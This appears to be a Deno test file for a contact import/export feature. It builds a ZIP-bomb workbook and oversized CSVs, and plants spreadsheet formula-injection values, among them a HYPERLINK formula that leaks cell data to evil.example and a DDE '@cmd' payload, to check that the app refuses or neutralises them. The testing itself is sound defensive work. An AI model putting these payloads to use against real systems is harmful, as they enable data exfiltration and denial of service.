/**
 * Contact import and export under attack: a workbook that unpacks to
 * gigabytes (a zip bomb), a row of one enormous cell or of thousands of
 * columns, and cells a spreadsheet would run as formulas.
 */
import assert from "node:assert/strict";
import { visibleText } from "../support/browser_client.ts";
import { type SignedIn, signedIn } from "../support/signed_in.ts";
import { startTestApp } from "../support/test_app.ts";
import { apiKey } from "../support/api_key.ts";
import { sandbox } from "../support/sandbox.ts";
import { unpackedSize } from "../../core/zip_size.ts";

/** A ZIP archive of `entries`, each deflated (CRCs left 0: exceljs does not check them). */
async function zipOf(entries: { name: string; data: ReadableStream<Uint8Array> }[]) {
  const parts: Uint8Array<ArrayBuffer>[] = [];
  const central: Uint8Array<ArrayBuffer>[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = new TextEncoder().encode(entry.name);
    let size = 0;
    const counted = entry.data.pipeThrough(
      new TransformStream<Uint8Array, Uint8Array>({
        transform(chunk, controller) {
          size += chunk.byteLength;
          controller.enqueue(chunk);
        },
      }),
    );
    const stream = counted.pipeThrough(
      new CompressionStream("deflate-raw") as unknown as TransformStream<Uint8Array, Uint8Array>,
    );
    const data = new Uint8Array(await new Response(stream).arrayBuffer());
    const local = new DataView(new ArrayBuffer(30));
    local.setUint32(0, 0x04034b50, true);
    local.setUint16(4, 20, true);
    local.setUint16(8, 8, true);
    local.setUint32(18, data.byteLength, true);
    local.setUint32(22, size, true);
    local.setUint16(26, name.byteLength, true);
    const head = new DataView(new ArrayBuffer(46));
    head.setUint32(0, 0x02014b50, true);
    head.setUint16(4, 20, true);
    head.setUint16(6, 20, true);
    head.setUint16(10, 8, true);
    head.setUint32(20, data.byteLength, true);
    head.setUint32(24, size, true);
    head.setUint16(28, name.byteLength, true);
    head.setUint32(42, offset, true);
    parts.push(new Uint8Array(local.buffer), name, data);
    central.push(new Uint8Array(head.buffer), name);
    offset += 30 + name.byteLength + data.byteLength;
  }
  const centralSize = central.reduce((n, p) => n + p.byteLength, 0);
  const end = new DataView(new ArrayBuffer(22));
  end.setUint32(0, 0x06054b50, true);
  end.setUint16(8, entries.length, true);
  end.setUint16(10, entries.length, true);
  end.setUint32(12, centralSize, true);
  end.setUint32(16, offset, true);
  return new Uint8Array(await new Blob([...parts, ...central, end.buffer]).arrayBuffer());
}

/** `megabytes` MiB of spaces, as a stream (never held whole). */
function spaces(megabytes: number): ReadableStream<Uint8Array> {
  const chunk = new Uint8Array(1024 * 1024).fill(0x20);
  let left = megabytes;
  return new ReadableStream({
    pull(controller) {
      if (left-- > 0) controller.enqueue(chunk);
      else controller.close();
    },
  });
}

/** Text, and streams, one after the other as one stream. */
function textStream(...parts: (string | ReadableStream<Uint8Array>)[]): ReadableStream<Uint8Array> {
  return new ReadableStream({
    async start(controller) {
      for (const part of parts) {
        if (typeof part === "string") controller.enqueue(new TextEncoder().encode(part));
        else for await (const chunk of part) controller.enqueue(chunk);
      }
      controller.close();
    },
  });
}

const MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const PKG = "http://schemas.openxmlformats.org/package/2006";
/** The parts of a workbook of one sheet, but the sheet. */
const WORKBOOK: [string, string][] = [
  [
    "[Content_Types].xml",
    `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="${PKG}/content-types">` +
    `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
    `<Default Extension="xml" ContentType="application/xml"/>` +
    `<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>` +
    `<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>` +
    `</Types>`,
  ],
  [
    "_rels/.rels",
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${PKG}/relationships">` +
    `<Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
  ],
  [
    "xl/workbook.xml",
    `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${MAIN}" xmlns:r="${REL}">` +
    `<sheets><sheet name="Pasien" sheetId="1" r:id="rId1"/></sheets></workbook>`,
  ],
  [
    "xl/_rels/workbook.xml.rels",
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${PKG}/relationships">` +
    `<Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>` +
    `</Relationships>`,
  ],
];

async function upload(admin: SignedIn, name: string, data: Uint8Array | string) {
  const body = new FormData();
  body.set("_csrf", admin.csrfToken);
  body.set("file", new File([data as BlobPart], name));
  return await admin.request("/contacts/import", { method: "POST", body });
}

Deno.test("a workbook that unpacks to hundreds of megabytes is refused unread, quickly", async () => {
  await using t = await startTestApp();
  const admin = await signedIn(t, "admin");
  await admin.get("/contacts/import");
  const bomb = await zipOf([
    ...WORKBOOK.map(([name, xml]) => ({ name, data: textStream(xml) })),
    {
      name: "xl/worksheets/sheet1.xml",
      data: textStream(
        `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN}"><sheetData>`,
        spaces(300),
        `<row r="1"><c r="A1" t="inlineStr"><is><t>telepon</t></is></c></row></sheetData></worksheet>`,
      ),
    },
  ]);
  assert.ok(bomb.byteLength < 1024 * 1024, `the upload is small (${bomb.byteLength} bytes)`);
  const started = performance.now();
  const page = await upload(admin, "pasien.xlsx", bomb);
  const ms = performance.now() - started;
  assert.equal(page.status, 422);
  assert.match(visibleText(page.text), /could not be read as an \.xlsx workbook/);
  assert.ok(ms < 5_000, `took ${Math.round(ms)} ms`);
  const left = [...Deno.readDirSync(`${t.dir}/imports`)];
  assert.deepEqual(left, [], "the refused file is not kept");

  const { api } = await apiKey(t, ["*"]);
  const form = new FormData();
  form.set("file", new File([bomb], "pasien.xlsx"));
  const media = await api.post("/api/v1/media", form);
  assert.equal(media.status, 201, JSON.stringify(media.body));
  const imported = await api.post("/api/v1/contacts/import", {
    media_id: media.body.id,
    columns: { phone: 0 },
  });
  assert.equal(imported.status, 422, JSON.stringify(imported.body));
  assert.ok(JSON.stringify(imported.body.error ?? imported.body).includes("file"));
});

Deno.test("the unpacked size of a ZIP is counted from its data, never from what it declares", async () => {
  const zip = await zipOf([{ name: "a.xml", data: spaces(3) }]);
  assert.deepEqual(await unpackedSize(zip, 4 * 1024 * 1024), { ok: true, bytes: 3 * 1024 * 1024 });
  assert.deepEqual(await unpackedSize(zip, 2 * 1024 * 1024), { ok: false, problem: "too_large" });
  assert.deepEqual(await unpackedSize(zip.subarray(0, 40), 1e9), {
    ok: false,
    problem: "unreadable",
  });
  const garbled = zip.slice();
  garbled.fill(0xff, 40, 60);
  assert.equal((await unpackedSize(garbled, 1e9)).ok, false);
});

Deno.test("a CSV of one enormous cell, or of thousands of columns, is a clear answer, never a 5xx", async () => {
  await using t = await startTestApp();
  const admin = await signedIn(t, "admin");
  await admin.get("/contacts/import");
  const wide = Array.from({ length: 5_000 }, (_, i) => `kolom${i}`).join(",") + "\n" +
    Array.from({ length: 5_000 }, () => "081234567890").join(",") + "\n";
  const huge = "telepon,nama\n081234567890," + "A".repeat(900_000) + "\n";
  for (const [name, csv] of [["lebar.csv", wide], ["besar.csv", huge]]) {
    const page = await upload(admin, name, csv);
    assert.ok(page.status < 500, `${name}: ${page.status}`);
    if (page.status === 303) {
      const mapping = await admin.get(page.location!);
      assert.ok(mapping.status < 500, `${name} mapping: ${mapping.status}`);
      const done = await admin.post(page.location!, { sheet: "0", phone: "1", name: "0" });
      assert.ok(done.status < 500, `${name} import: ${done.status}`);
    }
  }
  const [row] = (await t.deps.db.$client.execute("SELECT max(length(name)) AS n FROM contacts"))
    .rows;
  assert.ok(Number(row.n ?? 0) <= 1000, `a name is cut to its limit (${row.n})`);
});

Deno.test("export: a name, detail or email a spreadsheet would run is written as text", async () => {
  await using t = await startTestApp();
  const channel = await sandbox(t);
  await t.deps.registry.simulateInbound(channel.id, {
    phone: "6281234567001",
    name: '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    text: "Halo",
  });
  const admin = await signedIn(t, "admin");
  await admin.get("/contacts");
  const [contact] = (await t.deps.db.$client.execute("SELECT id FROM contacts")).rows;
  const saved = await admin.post(`/contacts/${contact.id}`, {
    name: "+SUM(1,2)",
    phone: "+6281234567001",
    email: "",
    notes: "@cmd|' /C calc'!A0",
    attr_key: ["=1+1", "kota"],
    attr_value: ["-2+3", "\r=cmd"],
  });
  assert.ok(saved.status < 500, `saved: ${saved.status}`);
  const csv = (await admin.get("/contacts/export.csv")).text;
  for (const line of csv.split("\r\n").slice(1)) {
    for (const cell of line.split(",")) {
      assert.doesNotMatch(cell.replace(/^"/, ""), /^[=+\-@\t\r]/, `cell ${cell} runs`);
    }
  }
  const { api } = await apiKey(t, ["contacts:read"]);
  const viaApi = await api.get("/api/v1/contacts/export.csv");
  assert.equal(viaApi.status, 200);
  for (const line of String(viaApi.body).split("\r\n").slice(1)) {
    for (const cell of line.split(",")) {
      assert.doesNotMatch(cell.replace(/^"/, ""), /^[=+\-@\t\r]/, `API cell ${cell} runs`);
    }
  }
});
